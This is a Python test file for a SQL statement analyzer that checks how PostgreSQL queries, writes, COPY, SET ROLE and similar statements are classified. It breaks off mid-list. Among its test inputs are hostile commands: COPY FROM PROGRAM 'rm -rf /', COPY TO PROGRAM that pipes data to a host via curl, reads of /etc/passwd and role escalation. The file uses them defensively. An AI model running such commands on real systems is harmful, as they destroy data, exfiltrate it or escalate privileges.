"""Statement analysis tables: what ``analyze`` reports for each statement.

Each row is a statement and its one-line summary (see ``summary``): class,
command, tables read (R) and written (W), whether an UPDATE/DELETE/MERGE
restricts rows (where), functions called (F), settings changed (S), features
(X), prepared statement name (P), COPY direction and endpoint (C), when a
nested statement runs (E), and nested statements in braces.  Statements of a
multi-statement input are separated by `` ; ``.
"""

from __future__ import annotations

from dataclasses import replace

import pytest

from server.gateway.sqlcheck import (
    Analysis,
    Execution,
    Feature,
    Name,
    Statement,
    StatementClass,
    analyze,
    analyze_function_call,
    cache_clear,
    parse_name,
    parse_search_path,
)
from server.gateway.sqlcheck import cache as sqlcheck_cache


def _one(st: Statement) -> str:
    if st.kind is StatementClass.UNKNOWN:
        return "unknown"
    parts = [st.kind.value, st.command]
    if st.reads:
        parts.append("R=" + ",".join(map(str, st.reads)))
    if st.writes:
        parts.append("W=" + ",".join(map(str, st.writes)))
    if st.restricting_where is not None:
        parts.append(f"where={'yes' if st.restricting_where else 'no'}")
    if st.functions:
        parts.append("F=" + ",".join(map(str, st.functions)))
    if st.settings:
        parts.append("S=" + ",".join(st.settings))
    if st.features:
        parts.append("X=" + ",".join(sorted(f.value for f in st.features)))
    if st.prepared_name:
        parts.append(f"P={st.prepared_name}")
    if st.copy:
        parts.append(f"C={st.copy.direction}:{st.copy.endpoint.value}")
    if st.execution is not Execution.NOW:
        parts.append(f"E={st.execution.value}")
    text = " ".join(parts)
    if st.nested:
        text += " {" + " | ".join(_one(n) for n in st.nested) + "}"
    return text


def summary(sql: str, **kwargs: object) -> str:
    """One line per input: the statements' summaries joined by `` ; ``."""
    return " ; ".join(_one(s) for s in analyze(sql, **kwargs).statements)  # type: ignore[arg-type]


QUERIES = [
    (
        (
            "SELECT c.id, c.name FROM customers c WHERE c.email ILIKE '%@example.com' ORDER BY "
            "c.id LIMIT 10 OFFSET 20"
        ),
        "read SELECT R=public.customers",
    ),
    (
        "SELECT count(*) FROM orders WHERE created_at >= now() - interval '1 day'",
        "read SELECT R=public.orders F=count,now",
    ),
    (
        "SELECT date_trunc('month', created_at) AS m, sum(total) FROM orders GROUP BY 1 ORDER BY 1",
        "read SELECT R=public.orders F=date_trunc,sum",
    ),
    (
        (
            "SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id LEFT JOIN items i "
            "USING (order_id)"
        ),
        "read SELECT R=public.orders,public.customers,public.items",
    ),
    (
        "SELECT jsonb_agg(row_to_json(t)) FROM (SELECT * FROM customers LIMIT 5) t",
        "read SELECT R=public.customers F=jsonb_agg,row_to_json",
    ),
    (
        "SELECT id, rank() OVER (PARTITION BY customer_id ORDER BY total DESC) FROM orders",
        "read SELECT R=public.orders F=rank",
    ),
    (
        "SELECT string_agg(name, ', ' ORDER BY name) FROM customers",
        "read SELECT R=public.customers F=string_agg",
    ),
    (
        "SELECT coalesce(nullif(a, ''), 'x'), greatest(1, 2), least(3, 4) FROM t",
        "read SELECT R=public.t F=coalesce,nullif,greatest,least",
    ),
    ("SELECT CASE WHEN a > 1 THEN 'x' ELSE 'y' END FROM t", "read SELECT R=public.t"),
    ("SELECT a::text, b::int[], c::jsonb -> 'k' ->> 'j' FROM t", "read SELECT R=public.t"),
    (
        "SELECT * FROM t WHERE a = ANY($1) AND b IN (1, 2, 3) AND c BETWEEN 1 AND 5",
        "read SELECT R=public.t",
    ),
    ("SELECT * FROM t WHERE tags @> ARRAY['x']::text[]", "read SELECT R=public.t"),
    ("SELECT * FROM generate_series(1, 10) AS g(n)", "read SELECT F=generate_series"),
    ("SELECT * FROM unnest(ARRAY[1,2,3]) WITH ORDINALITY AS u(x, i)", "read SELECT F=unnest"),
    (
        "SELECT pg_size_pretty(pg_total_relation_size('customers'))",
        "read SELECT F=pg_size_pretty,pg_total_relation_size",
    ),
    (
        "SELECT current_user, session_user, current_database(), version()",
        "read SELECT F=current_database,version",
    ),
    (
        "SELECT * FROM pg_stat_activity WHERE state = 'active'",
        "read SELECT R=pg_catalog.pg_stat_activity",
    ),
    ("SELECT relname FROM pg_class WHERE relkind = 'r'", "read SELECT R=pg_catalog.pg_class"),
    (
        "SELECT * FROM information_schema.tables WHERE table_schema = 'public'",
        "read SELECT R=information_schema.tables",
    ),
    (
        "SELECT to_char(now(), 'YYYY-MM-DD'), to_timestamp(0), extract(epoch FROM now())",
        "read SELECT F=to_char,now,to_timestamp,extract",
    ),
    ("SELECT md5('x'), encode(digest('x', 'sha256'), 'hex')", "read SELECT F=md5,encode,digest"),
    (
        "SELECT regexp_replace(a, '\\s+', ' ', 'g') FROM t",
        "read SELECT R=public.t F=regexp_replace",
    ),
    (
        "SELECT lower(email), upper(name), length(name), substr(name, 1, 3) FROM customers",
        "read SELECT R=public.customers F=lower,upper,length,substr",
    ),
    ("SELECT * FROM t TABLESAMPLE SYSTEM (10) REPEATABLE (42)", "read SELECT R=public.t"),
    (
        "SELECT a, count(*) FROM t GROUP BY GROUPING SETS ((a), ())",
        "read SELECT R=public.t F=count",
    ),
    ("SELECT a, b FROM t GROUP BY ROLLUP (a, b)", "read SELECT R=public.t"),
    (
        "SELECT * FROM t WHERE NOT EXISTS (SELECT 1 FROM u WHERE u.t_id = t.id)",
        "read SELECT R=public.t,public.u",
    ),
    (
        "SELECT DISTINCT ON (customer_id) * FROM orders ORDER BY customer_id, created_at DESC",
        "read SELECT R=public.orders",
    ),
    ("SELECT * FROM t ORDER BY a NULLS LAST", "read SELECT R=public.t"),
    ("SELECT array_agg(x) FILTER (WHERE x > 0) FROM t", "read SELECT R=public.t F=array_agg"),
    (
        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total) FROM orders",
        "read SELECT R=public.orders F=percentile_cont",
    ),
    (
        "SELECT * FROM t1 UNION SELECT * FROM t2 EXCEPT SELECT * FROM t3",
        "read SELECT R=public.t1,public.t2,public.t3",
    ),
    ("SELECT * FROM t WHERE ts AT TIME ZONE 'UTC' > '2020-01-01'", "read SELECT R=public.t"),
    ("SELECT json_build_object('a', 1, 'b', ARRAY[1,2])", "read SELECT F=json_build_object"),
    ("SELECT * FROM jsonb_each('{\"a\":1}'::jsonb)", "read SELECT F=jsonb_each"),
    (
        "SELECT * FROM t, LATERAL (SELECT * FROM u WHERE u.id = t.id LIMIT 1) x",
        "read SELECT R=public.t,public.u",
    ),
    ("SELECT nextval('s'), currval('s'), setval('s', 10)", "read SELECT F=nextval,currval,setval"),
    (
        "SELECT pg_advisory_lock(1), pg_try_advisory_lock(2)",
        "read SELECT F=pg_advisory_lock,pg_try_advisory_lock",
    ),
    (
        "SELECT format('%I', 'x'), quote_ident('x'), quote_literal('y')",
        "read SELECT F=format,quote_ident,quote_literal",
    ),
    ("SELECT now()::date, current_date, current_timestamp, localtimestamp", "read SELECT F=now"),
    ("SELECT 1 WHERE 'a' ~* 'A'", "read SELECT"),
    ("SELECT * FROM t WHERE a IS DISTINCT FROM b", "read SELECT R=public.t"),
    ("SELECT (SELECT max(id) FROM t) + 1", "read SELECT R=public.t F=max"),
    ("SELECT * FROM ONLY t", "read SELECT R=public.t"),
    ("SELECT t.* FROM t", "read SELECT R=public.t"),
    ('SELECT * FROM "MixedCase"."Table" WHERE "Col" = 1', 'read SELECT R="MixedCase"."Table"'),
    ("VALUES (1, 'a'), (2, 'b')", "read VALUES"),
    ("TABLE customers", "read SELECT R=public.customers"),
    (
        (
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) "
            "SELECT * FROM r"
        ),
        "read SELECT",
    ),
    ("WITH x AS MATERIALIZED (SELECT 1) SELECT * FROM x", "read SELECT"),
    ("SELECT pg_notify('events', 'x')", "read SELECT F=pg_notify"),
    ('SELECT 1 AS "select", 2 AS "from"', "read SELECT"),
    ("SELECT $$x$$, $tag$y$tag$, E'\\n', 'it''s'", "read SELECT"),
    ("SELECT 'a' || 'b' || 'c'", "read SELECT"),
    ("SELECT B'101' | B'011', X'FF'", "read SELECT"),
    ("SELECT * FROM t WHERE a LIKE 'x%' ESCAPE '\\'", "read SELECT R=public.t"),
    ("SELECT xmlagg(xmlelement(name x, a)) FROM t", "read SELECT R=public.t F=xmlagg,xmlelement"),
    ("SELECT * FROM t WHERE a <@ b AND c && d", "read SELECT R=public.t"),
    (
        "SELECT * FROM t WHERE to_tsvector(body) @@ to_tsquery('x')",
        "read SELECT R=public.t F=to_tsvector,to_tsquery",
    ),
    ("SELECT 1 FROM t WHERE (a, b) = (1, 2)", "read SELECT R=public.t"),
    ("SELECT (t.*)::text FROM t", "read SELECT R=public.t"),
    ("SELECT (ROW(1, 2)).f1", "read SELECT"),
    ("SELECT '{\"a\":1}'::json -> 'a'", "read SELECT"),
    ("SELECT a[1], a[1:2] FROM t", "read SELECT R=public.t"),
    ("SELECT interval '1' hour", "read SELECT"),
    (
        (
            "SELECT overlay('abc' placing 'x' from 2), position('b' in 'abc'), trim(both 'x' "
            "from 'xax')"
        ),
        "read SELECT F=overlay,position,trim",
    ),
    ("SELECT convert_from('x', 'UTF8')", "read SELECT F=convert_from"),
    ("SELECT * FROM t WHERE a SIMILAR TO 'x'", "read SELECT R=public.t"),
    (
        "SELECT * FROM xmltable('/a' PASSING '<a/>'::xml COLUMNS x int PATH '.')",
        "read SELECT F=xmltable",
    ),
    ("SELECT * FROM t FETCH FIRST 10 ROWS ONLY", "read SELECT R=public.t"),
    ("SELECT * FROM t LIMIT ALL", "read SELECT R=public.t"),
    ("SELECT 1::numeric(10,2)", "read SELECT"),
    ("SELECT CAST('1' AS integer)", "read SELECT"),
    ("SELECT typname FROM pg_type WHERE oid = 'int4'::regtype", "read SELECT R=pg_catalog.pg_type"),
    ("SELECT count(DISTINCT a) FROM t", "read SELECT R=public.t F=count"),
    ("SELECT mode() WITHIN GROUP (ORDER BY a) FROM t", "read SELECT R=public.t F=mode"),
    ("SELECT * FROM t WHERE a = 1 FOR SHARE OF t NOWAIT", "write SELECT R=public.t X=row_lock"),
    ("SELECT * FROM t WHERE ctid = '(0,1)'", "read SELECT R=public.t"),
]


WRITES = [
    (
        "INSERT INTO customers (name, email) VALUES ('a', 'b') RETURNING id",
        "write INSERT W=public.customers",
    ),
    ("INSERT INTO t SELECT * FROM u WHERE u.x > 0", "write INSERT R=public.u W=public.t"),
    (
        (
            "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET b = EXCLUDED.b WHERE "
            "t.c IS NULL"
        ),
        "write INSERT W=public.t",
    ),
    (
        "INSERT INTO t (a) VALUES (1) ON CONFLICT ON CONSTRAINT t_pkey DO NOTHING",
        "write INSERT W=public.t",
    ),
    ("INSERT INTO t DEFAULT VALUES", "write INSERT W=public.t"),
    ("INSERT INTO t (a) VALUES ($1), ($2)", "write INSERT W=public.t"),
    ("UPDATE customers SET name = 'x' WHERE id = 1", "write UPDATE W=public.customers where=yes"),
    (
        "UPDATE customers SET name = $1, email = $2 WHERE id = $3",
        "write UPDATE W=public.customers where=yes",
    ),
    (
        "UPDATE t SET a = a + 1 WHERE id IN (SELECT id FROM u WHERE u.flag)",
        "write UPDATE R=public.u W=public.t where=yes",
    ),
    (
        "UPDATE t SET (a, b) = (SELECT a, b FROM u WHERE u.id = t.id) WHERE t.id > 100",
        "write UPDATE R=public.u W=public.t where=yes",
    ),
    (
        "UPDATE t SET a = u.a FROM u WHERE t.id = u.id AND u.b > 0",
        "write UPDATE R=public.u W=public.t where=yes",
    ),
    (
        "UPDATE t SET updated_at = now() WHERE created_at < now() - interval '30 days'",
        "write UPDATE W=public.t where=yes F=now",
    ),
    (
        "DELETE FROM orders WHERE status = 'cancelled' AND created_at < '2020-01-01'",
        "write DELETE W=public.orders where=yes",
    ),
    ("DELETE FROM t WHERE id = ANY($1::int[])", "write DELETE W=public.t where=yes"),
    ("DELETE FROM t RETURNING *", "write DELETE W=public.t where=no"),
    (
        (
            "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN UPDATE SET a = u.a WHEN NOT "
            "MATCHED THEN INSERT (id, a) VALUES (u.id, u.a)"
        ),
        "write MERGE R=public.u W=public.t where=yes",
    ),
]


WHERE_CLAUSES = [
    ("select * from t where a = 1 for update", "write SELECT R=public.t X=row_lock"),
    ("SELECT * FROM t FOR NO KEY UPDATE", "write SELECT R=public.t X=row_lock"),
    ("SELECT * FROM t FOR KEY SHARE", "write SELECT R=public.t X=row_lock"),
    ("UPDATE t SET a=1 WHERE true", "write UPDATE W=public.t where=no"),
    ("UPDATE t SET a = 1 WHERE TRUE AND TRUE", "write UPDATE W=public.t where=no"),
    ('DELETE FROM "public"."Customers" WHERE 1=1', 'write DELETE W=public."Customers" where=no'),
    ("DELETE FROM t WHERE id = id", "write DELETE W=public.t where=no"),
    ("DELETE FROM t WHERE t.id = t.id", "write DELETE W=public.t where=no"),
    ("DELETE FROM t WHERE id >= id", "write DELETE W=public.t where=no"),
    ("DELETE FROM t WHERE id is not null or true", "write DELETE W=public.t where=no"),
    ("DELETE FROM t WHERE NOT false", "write DELETE W=public.t where=no"),
    ("DELETE FROM t WHERE NOT NOT true", "write DELETE W=public.t where=no"),
    ("DELETE FROM t WHERE 'a'='a'", "write DELETE W=public.t where=no"),
    ("DELETE FROM t WHERE 'a' <> 'b'", "write DELETE W=public.t where=no"),
    ("DELETE FROM t WHERE 1 < 2", "write DELETE W=public.t where=no"),
    ("DELETE FROM t WHERE 2 > 1 AND id = 5", "write DELETE W=public.t where=yes"),
    ("DELETE FROM t WHERE (((true)))", "write DELETE W=public.t where=no"),
    ("DELETE FROM t WHERE id = 5 OR 1 = 1", "write DELETE W=public.t where=no"),
    ("DELETE FROM t WHERE id = 5 OR now() IS NOT NULL", "write DELETE W=public.t where=no F=now"),
    ("DELETE FROM t WHERE random() < 2", "write DELETE W=public.t where=no F=random"),
    ("DELETE FROM t WHERE $1", "write DELETE W=public.t where=no"),
    ("DELETE FROM t WHERE $1 = $1", "write DELETE W=public.t where=no"),
    ("DELETE FROM t WHERE id = $1", "write DELETE W=public.t where=yes"),
    ("DELETE FROM t WHERE EXISTS (SELECT 1)", "write DELETE W=public.t where=no"),
    (
        "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id)",
        "write DELETE R=public.u W=public.t where=yes",
    ),
    (
        "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.x = u.x)",
        "write DELETE R=public.u W=public.t where=no",
    ),
    ("DELETE FROM t WHERE name LIKE '%'", "write DELETE W=public.t where=no"),
    ("DELETE FROM t WHERE name LIKE 'a%'", "write DELETE W=public.t where=yes"),
    ("DELETE FROM t WHERE x IS NULL OR x IS NOT NULL", "write DELETE W=public.t where=no"),
    ("DELETE FROM t WHERE x > 5 OR NOT x > 5", "write DELETE W=public.t where=no"),
    ("DELETE FROM t WHERE false", "write DELETE W=public.t where=yes"),
    ("DELETE FROM t WHERE NULL", "write DELETE W=public.t where=yes"),
    ("DELETE FROM t WHERE id = 5 AND true", "write DELETE W=public.t where=yes"),
    (
        "DELETE FROM t WHERE coalesce(id, 0) = coalesce(id, 0)",
        "write DELETE W=public.t where=no F=coalesce",
    ),
    ("DELETE FROM t AS x WHERE x.id = 3", "write DELETE W=public.t where=yes"),
    ("DELETE FROM t WHERE CASE WHEN true THEN true END", "write DELETE W=public.t where=no"),
    ("UPDATE t SET a = 1 WHERE 'yes'::boolean", "write UPDATE W=public.t where=no"),
    ("UPDATE t SET a = 1 WHERE id IN (1, 2)", "write UPDATE W=public.t where=yes"),
    ("UPDATE t SET a = 1 WHERE CURRENT OF c", "write UPDATE W=public.t where=yes"),
    ("UPDATE t SET a = 1", "write UPDATE W=public.t where=no"),
    ("DELETE FROM t", "write DELETE W=public.t where=no"),
]


NESTED = [
    (
        "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x",
        "write SELECT W=public.t {write DELETE W=public.t where=no}",
    ),
    (
        "WITH x AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM x",
        "write SELECT W=public.t {write DELETE W=public.t where=yes}",
    ),
    (
        "WITH x AS (UPDATE t SET a = 1 RETURNING *) INSERT INTO log SELECT * FROM x",
        "write INSERT W=public.t,public.log {write UPDATE W=public.t where=no}",
    ),
    (
        "WITH a AS (SELECT 1), b AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM a, b",
        "write SELECT W=public.t {write INSERT W=public.t}",
    ),
    (
        "WITH x AS NOT MATERIALIZED (DELETE FROM t WHERE true RETURNING 1) SELECT 1",
        "write SELECT W=public.t {write DELETE W=public.t where=no}",
    ),
    (
        "EXPLAIN ANALYZE DELETE FROM t",
        "write EXPLAIN ANALYZE W=public.t {write DELETE W=public.t where=no}",
    ),
    (
        "EXPLAIN ANALYSE DELETE FROM t WHERE id = 1",
        "write EXPLAIN ANALYZE W=public.t {write DELETE W=public.t where=yes}",
    ),
    ("EXPLAIN DELETE FROM t", "read EXPLAIN {write DELETE W=public.t where=no E=never}"),
    ("EXPLAIN VERBOSE DELETE FROM t", "read EXPLAIN {write DELETE W=public.t where=no E=never}"),
    (
        "EXPLAIN (ANALYZE) DELETE FROM t",
        "write EXPLAIN ANALYZE W=public.t {write DELETE W=public.t where=no}",
    ),
    (
        "EXPLAIN (ANALYZE true, FORMAT json) UPDATE t SET a = 1",
        "write EXPLAIN ANALYZE W=public.t {write UPDATE W=public.t where=no}",
    ),
    (
        "EXPLAIN (ANALYZE off) DELETE FROM t",
        "read EXPLAIN {write DELETE W=public.t where=no E=never}",
    ),
    (
        "EXPLAIN (ANALYZE 0) DELETE FROM t",
        "read EXPLAIN {write DELETE W=public.t where=no E=never}",
    ),
    (
        "EXPLAIN (FORMAT json, ANALYZE) DELETE FROM t",
        "write EXPLAIN ANALYZE W=public.t {write DELETE W=public.t where=no}",
    ),
    (
        "EXPLAIN (ANALYZE maybe) DELETE FROM t",
        "write EXPLAIN ANALYZE W=public.t {write DELETE W=public.t where=no}",
    ),
    (
        "EXPLAIN (ANALYZE, ANALYZE false) DELETE FROM t",
        "read EXPLAIN {write DELETE W=public.t where=no E=never}",
    ),
    (
        "EXPLAIN SELECT pg_read_file('x')",
        "read EXPLAIN F=pg_read_file {read SELECT F=pg_read_file E=never}",
    ),
    ("EXPLAIN ANALYZE SELECT * FROM t", "read EXPLAIN ANALYZE R=public.t {read SELECT R=public.t}"),
    ("EXPLAIN ANALYZE EXECUTE p(1)", "utility EXPLAIN ANALYZE {utility EXECUTE P=p}"),
    ("EXPLAIN EXECUTE p(1)", "read EXPLAIN {utility EXECUTE P=p E=never}"),
    (
        "EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1",
        "ddl EXPLAIN ANALYZE W=public.x {ddl CREATE TABLE W=public.x {read SELECT}}",
    ),
    (
        "PREPARE p AS DELETE FROM t",
        "utility PREPARE P=p {write DELETE W=public.t where=no E=later}",
    ),
    (
        "PREPARE p(int) AS DELETE FROM t WHERE id = $1",
        "utility PREPARE P=p {write DELETE W=public.t where=yes E=later}",
    ),
    ('PREPARE "P" AS SELECT 1', "utility PREPARE P=P {read SELECT E=later}"),
    (
        "PREPARE p AS SELECT set_config('role', 'x', false)",
        "utility PREPARE F=set_config P=p {privilege SELECT F=set_config S=role E=later}",
    ),
    ("EXECUTE p", "utility EXECUTE P=p"),
    ('EXECUTE "P"', "utility EXECUTE P=P"),
    ("EXECUTE p(1, 'x')", "utility EXECUTE P=p"),
    ("EXECUTE p(pg_read_file('/etc/passwd'))", "utility EXECUTE F=pg_read_file P=p"),
    ("DEALLOCATE p", "utility DEALLOCATE P=p"),
    ("DEALLOCATE PREPARE p", "utility DEALLOCATE P=p"),
    ("DEALLOCATE ALL", "utility DEALLOCATE ALL"),
    (
        "CREATE TABLE x AS SELECT * FROM t",
        "ddl CREATE TABLE R=public.t W=public.x {read SELECT R=public.t}",
    ),
    ("CREATE TABLE x AS EXECUTE p", "ddl CREATE TABLE W=public.x {utility EXECUTE P=p}"),
    (
        "CREATE TABLE x AS SELECT 1 WITH NO DATA",
        "ddl CREATE TABLE W=public.x {read SELECT E=never}",
    ),
    ("CREATE TABLE x (a, b) AS VALUES (1, 2)", "ddl CREATE TABLE W=public.x {read VALUES}"),
    (
        "CREATE TEMP TABLE x AS TABLE t",
        "ddl CREATE TABLE R=public.t W=public.x {read SELECT R=public.t}",
    ),
    (
        "CREATE MATERIALIZED VIEW mv AS SELECT * FROM t",
        "ddl CREATE MATERIALIZED VIEW R=public.t W=public.mv {read SELECT R=public.t}",
    ),
    (
        "CREATE MATERIALIZED VIEW mv AS SELECT pg_read_file('x') WITH NO DATA",
        (
            "ddl CREATE MATERIALIZED VIEW W=public.mv F=pg_read_file X=unparsed {read SELECT "
            "F=pg_read_file E=never}"
        ),
    ),
    ("SELECT * INTO x FROM t", "ddl SELECT INTO R=public.t W=public.x"),
    ("SELECT * INTO TEMP TABLE x FROM t", "ddl SELECT INTO R=public.t W=public.x"),
    ("DO $$ BEGIN PERFORM 1; END $$", "utility DO X=code,opaque"),
    ("DO LANGUAGE plpgsql $$ BEGIN END $$", "utility DO X=code,opaque"),
    ("DO $tag$ DROP TABLE t $tag$ LANGUAGE plpgsql", "utility DO X=code,opaque"),
    ("DO 'BEGIN END'", "utility DO X=code,opaque"),
    ("DO E'BEGIN END'", "utility DO X=code,opaque"),
    (
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "write MERGE R=public.s W=public.t where=yes",
    ),
    (
        "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
        "write MERGE R=public.s W=public.t where=no",
    ),
    (
        "MERGE INTO t USING s ON 1 = 1 WHEN MATCHED THEN UPDATE SET a = s.a",
        "write MERGE R=public.s W=public.t where=no",
    ),
    (
        "MERGE INTO t USING s ON true WHEN NOT MATCHED THEN INSERT VALUES (s.a)",
        "write MERGE R=public.s W=public.t",
    ),
    ("COPY t FROM PROGRAM 'rm -rf /'", "write COPY W=public.t C=from:program"),
    ("COPY t TO PROGRAM 'curl -d @- http://x'", "read COPY R=public.t C=to:program"),
    ("COPY t TO '/tmp/x'", "read COPY R=public.t C=to:file"),
    ("COPY t FROM '/etc/passwd'", "write COPY W=public.t C=from:file"),
    ("COPY t FROM E'/etc/passwd'", "write COPY W=public.t C=from:file"),
    ("COPY t FROM $$/etc/passwd$$", "write COPY W=public.t C=from:file"),
    ("COPY t FROM STDIN", "write COPY W=public.t C=from:stdio"),
    ("COPY t TO STDOUT", "read COPY R=public.t C=to:stdio"),
    ("COPY s.t (a, b) FROM STDIN WITH (FORMAT csv, HEADER true)", "write COPY W=s.t C=from:stdio"),
    ("COPY t FROM STDIN WITH CSV HEADER", "write COPY W=public.t C=from:stdio"),
    ("COPY t FROM STDIN (FORMAT binary)", "write COPY W=public.t C=from:stdio"),
    (
        "COPY t FROM STDIN WITH (FORCE_NOT_NULL (a), FORCE_NULL (b))",
        "write COPY W=public.t C=from:stdio",
    ),
    (
        "COPY t FROM STDIN WITH (ENCODING 'LATIN1')",
        "write COPY W=public.t S=client_encoding C=from:stdio",
    ),
    ("COPY t FROM STDIN WHERE a > 0", "write COPY W=public.t C=from:stdio"),
    (
        "COPY t FROM STDIN WHERE pg_read_file('x') IS NOT NULL",
        "write COPY W=public.t F=pg_read_file C=from:stdio",
    ),
    (
        "COPY (SELECT * FROM t) TO STDOUT",
        "read COPY R=public.t C=to:stdio {read SELECT R=public.t}",
    ),
    (
        "COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT",
        "read COPY F=pg_read_file C=to:stdio {read SELECT F=pg_read_file}",
    ),
    (
        "COPY (DELETE FROM t RETURNING *) TO STDOUT",
        "write COPY W=public.t C=to:stdio {write DELETE W=public.t where=no}",
    ),
    (
        "COPY (DELETE FROM t WHERE id = 1 RETURNING *) TO STDOUT",
        "write COPY W=public.t C=to:stdio {write DELETE W=public.t where=yes}",
    ),
    ("COPY (SELECT 1) TO PROGRAM 'x'", "read COPY C=to:program {read SELECT}"),
    ("COPY BINARY t FROM STDIN", "write COPY W=public.t C=from:stdio"),
    ("CALL p(1)", "utility CALL F=p X=opaque"),
    ("CALL s.p(pg_read_file('x'))", "utility CALL F=s.p,pg_read_file X=opaque"),
    ("CALL p()", "utility CALL F=p X=opaque"),
    ("LISTEN ch", "utility LISTEN X=listen"),
    ('LISTEN "Channel"', "utility LISTEN X=listen"),
    ("NOTIFY ch, 'payload'", "utility NOTIFY X=notify"),
    ("NOTIFY ch", "utility NOTIFY X=notify"),
    ("UNLISTEN *", "utility UNLISTEN"),
    ("UNLISTEN ch", "utility UNLISTEN"),
]


SESSION = [
    ("SET statement_timeout = '5s'", "session_state SET S=statement_timeout"),
    ("SET LOCAL statement_timeout TO 5000", "session_state SET S=statement_timeout"),
    ("SET TIME ZONE 'UTC'", "session_state SET S=timezone"),
    ("SET TIME ZONE LOCAL", "session_state SET S=timezone"),
    ('SET search_path TO public, "$user"', "session_state SET S=search_path"),
    ("SET application_name = 'psql'", "session_state SET S=application_name"),
    ("SET datestyle = ISO, MDY", "session_state SET S=datestyle"),
    ("SET work_mem TO DEFAULT", "session_state SET S=work_mem"),
    (
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
        "transaction SET SESSION CHARACTERISTICS S=default_transaction_read_only",
    ),
    (
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
        "transaction SET TRANSACTION S=transaction_isolation",
    ),
    ("SET CONSTRAINTS ALL DEFERRED", "transaction SET CONSTRAINTS"),
    ("SET myapp.tenant = '42'", "session_state SET S=myapp.tenant"),
    ("SET extra_float_digits = -3", "session_state SET S=extra_float_digits"),
    ("RESET statement_timeout", "session_state RESET S=statement_timeout"),
    ("RESET ALL", "session_state RESET ALL S=all"),
    ("SHOW TIME ZONE", "read SHOW"),
    ("SHOW TRANSACTION ISOLATION LEVEL", "read SHOW"),
    ("DISCARD PLANS", "session_state DISCARD PLANS"),
    ("SET ROLE postgres", "privilege SET ROLE S=role"),
    ("SET ROLE 'postgres'", "privilege SET ROLE S=role"),
    ("SET LOCAL ROLE postgres", "privilege SET ROLE S=role"),
    ("SET SESSION ROLE postgres", "privilege SET ROLE S=role"),
    ("SET ROLE NONE", "privilege SET ROLE S=role"),
    ("SET role TO postgres", "privilege SET ROLE S=role"),
    ("SET role = 'postgres'", "privilege SET ROLE S=role"),
    ('SET "role" TO x', "privilege SET ROLE S=role"),
    ('SET "ROLE" TO x', "privilege SET ROLE S=role"),
    ("RESET ROLE", "privilege RESET ROLE S=role"),
    ("RESET role", "privilege RESET ROLE S=role"),
    (
        "SET SESSION AUTHORIZATION postgres",
        "privilege SET SESSION AUTHORIZATION S=session_authorization",
    ),
    (
        "SET SESSION AUTHORIZATION DEFAULT",
        "privilege SET SESSION AUTHORIZATION S=session_authorization",
    ),
    (
        "SET LOCAL SESSION AUTHORIZATION 'x'",
        "privilege SET SESSION AUTHORIZATION S=session_authorization",
    ),
    (
        "SET SESSION SESSION AUTHORIZATION x",
        "privilege SET SESSION AUTHORIZATION S=session_authorization",
    ),
    (
        "RESET SESSION AUTHORIZATION",
        "privilege RESET SESSION AUTHORIZATION S=session_authorization",
    ),
    (
        "SET session_authorization = x",
        "privilege SET SESSION AUTHORIZATION S=session_authorization",
    ),
    ("SET client_encoding = 'LATIN1'", "session_state SET S=client_encoding"),
    ("SET client_encoding TO 'SJIS'", "session_state SET S=client_encoding"),
    ("SET CLIENT_ENCODING TO DEFAULT", "session_state SET S=client_encoding"),
    ("SET \"Client_Encoding\" = 'x'", "session_state SET S=client_encoding"),
    ("SET NAMES 'LATIN1'", "session_state SET S=client_encoding"),
    ("SET LOCAL NAMES 'SJIS'", "session_state SET S=client_encoding"),
    ("RESET client_encoding", "session_state RESET S=client_encoding"),
    ("SET standard_conforming_strings = off", "session_state SET S=standard_conforming_strings"),
    ("SET standard_conforming_strings TO on", "session_state SET S=standard_conforming_strings"),
    (
        "SET LOCAL standard_conforming_strings = 0",
        "session_state SET S=standard_conforming_strings",
    ),
    ("SET search_path = evil, public", "session_state SET S=search_path"),
    ("SET SCHEMA 'evil'", "session_state SET S=search_path"),
    ("SET TIME ZONE 'Europe/Paris'", "session_state SET S=timezone"),
    ("SET TIME ZONE INTERVAL '+02:00' HOUR TO MINUTE", "session_state SET S=timezone"),
    ("SET XML OPTION DOCUMENT", "session_state SET S=xmloption"),
    ("SET SEED TO 0.5", "session_state SET S=seed"),
    ("SET seed = 0.5", "session_state SET S=seed"),
    ("SET work_mem = '64MB'", "session_state SET S=work_mem"),
    ("SET work_mem TO 65536", "session_state SET S=work_mem"),
    ("SET statement_timeout = 0", "session_state SET S=statement_timeout"),
    ("SET a.b.c = 1", "session_state SET S=a.b.c"),
    ("RESET TIME ZONE", "session_state RESET S=timezone"),
    ("RESET TRANSACTION ISOLATION LEVEL", "session_state RESET S=transaction_isolation"),
    ("RESET search_path", "session_state RESET S=search_path"),
    ("SHOW ALL", "read SHOW"),
    ("SHOW search_path", "read SHOW"),
    ("SHOW SESSION AUTHORIZATION", "read SHOW"),
    ("DISCARD ALL", "session_state DISCARD ALL S=all"),
    ("DISCARD TEMP", "session_state DISCARD TEMP"),
    ("DISCARD TEMPORARY", "session_state DISCARD TEMP"),
    ("DISCARD SEQUENCES", "session_state DISCARD SEQUENCES"),
]


TRANSACTIONS = [
    (
        "BEGIN ISOLATION LEVEL REPEATABLE READ READ ONLY",
        "transaction BEGIN S=transaction_isolation,transaction_read_only",
    ),
    ("BEGIN TRANSACTION", "transaction BEGIN"),
    ("END", "transaction COMMIT"),
    ("ABORT", "transaction ROLLBACK"),
    ("COMMIT AND CHAIN", "transaction COMMIT"),
    ("ROLLBACK WORK", "transaction ROLLBACK"),
